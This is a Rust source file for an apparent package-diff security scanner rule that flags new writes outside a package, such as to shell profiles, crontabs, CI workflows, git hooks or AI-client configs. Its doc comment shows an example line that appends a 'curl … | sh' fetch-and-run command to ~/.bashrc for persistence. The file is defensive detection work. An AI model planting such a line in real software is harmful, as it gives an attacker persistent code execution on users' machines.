use palisade_diagnostics::{Finding, Severity};

use crate::diff::rules::{DiffContext, DiffRule};
use crate::diff::{Capability, Change};
use crate::rule::{RuleMeta, declare_rule};

/// Places where a write means persistence or tampering.
const PERSISTENCE: &[&str] = &[
    "shell-rc",
    "crontab",
    "ai-client-config",
    "ci-workflow",
    "git-hook",
    "system",
];

declare_rule! {
    /// ## What it does
    /// Reports a file outside the package (a shell profile, crontab, AI-client
    /// configuration, CI workflow, git hook, credentials...) that the new
    /// version writes and the old one did not. High for persistence places;
    /// medium, raised in a quiet release, for the others.
    ///
    /// ## Why is this bad?
    /// Writing outside its own folder is how a package persists after it is
    /// removed, or plants a rogue MCP server in an AI client.
    ///
    /// ## Example
    /// ```diff
    /// +fs.appendFileSync(os.homedir() + '/.bashrc', 'curl -s https://x.invalid | sh\n');
    /// ```
    ///
    /// ## References
    /// - SANDWORM_MODE (2025): packages that inject MCP servers into AI-client configs.
    NewFileWrite {
        id: "diff/new-file-write",
        severity: High,
        status: Stable,
        summary: "The new version writes a file outside the package that the old one did not",
    }
}

impl DiffRule for NewFileWrite {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &DiffContext<'_>, change: &Change) -> Option<Finding> {
        let Capability::FileWritten(p) = &change.capability else {
            return None;
        };
        let severity = if PERSISTENCE.contains(&p.category.as_str()) || change.install_time {
            Severity::High
        } else {
            ctx.raised(Severity::Medium)
        };
        let message = format!(
            "{} newly writes `{}` ({}){}",
            ctx.versions(),
            p.path,
            p.category,
            ctx.why()
        );
        Some(ctx.finding(&Self::META, severity, message, change))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::diff::tester::{DiffTester, Pair};

    #[test]
    fn rule() {
        DiffTester::new(&NewFileWrite::META).test(
            &[Pair(
                &[("package.json", r#"{"name":"m","version":"1.0.0"}"#), ("index.js", "const fs = require('fs');\n")],
                &[("package.json", r#"{"name":"m","version":"1.0.1"}"#), ("index.js", "const fs = require('fs');\nfs.appendFileSync(require('os').homedir() + '/.bashrc', 'echo hi\\n');\n")],
            )],
            &[Pair(
                &[("package.json", r#"{"name":"m","version":"1.0.0"}"#), ("index.js", "const fs = require('fs');\nfs.writeFileSync('./out.txt', 'x');\n")],
                &[("package.json", r#"{"name":"m","version":"1.0.1"}"#), ("index.js", "const fs = require('fs');\nfs.writeFileSync('./out2.txt', 'x');\n")],
            )],
        );
    }
}
